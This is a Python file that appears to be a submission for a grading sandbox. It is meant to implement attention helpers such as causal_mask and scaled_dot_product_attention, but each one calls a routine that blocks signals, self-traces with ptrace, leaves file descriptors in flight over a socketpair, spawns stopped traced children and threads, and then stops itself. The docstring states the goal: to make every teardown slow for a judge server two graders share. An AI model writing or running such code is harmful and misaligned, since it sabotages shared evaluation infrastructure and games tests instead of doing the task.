"""Makes every end a slow one for the server that two judges share: traced by it, stopped, with children, pipes and threads.

levels: bubblewrap user
process: not promised: your processes are its processes
checks: test_three_tokens_see_themselves_and_what_came_before test_the_mask_fits_every_length test_true_in_the_mask_means_may_look test_every_head_has_its_piece_of_every_token
outcomes: failed timed_out crashed
judges: 2
seconds: 2
"""

import array
import ctypes
import os
import signal
import socket
import threading
import time

import torch

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")

libc = ctypes.CDLL(None)
TRACEME, FLIGHT = 0, 200
kept = []


def in_flight():
    """Leave descriptors on their way between two sockets of its own, which count for everybody of this user."""
    here, there = socket.socketpair()
    kept.extend((here, there))
    many = array.array("i", [here.fileno()] * FLIGHT)
    try:
        here.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
    except OSError:
        pass


def crowd():
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
    libc.ptrace(TRACEME, 0, 0, 0)
    in_flight()
    for _ in range(8):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    for _ in range(8):
        if os.fork() == 0:
            libc.ptrace(TRACEME, 0, 0, 0)
            os.kill(os.getpid(), signal.SIGSTOP)
            time.sleep(600)
    os.kill(os.getpid(), signal.SIGSTOP)
    time.sleep(600)


def causal_mask(length, *more):
    crowd()


def scaled_dot_product_attention(*more, **named):
    crowd()


def split_heads(*more, **named):
    crowd()
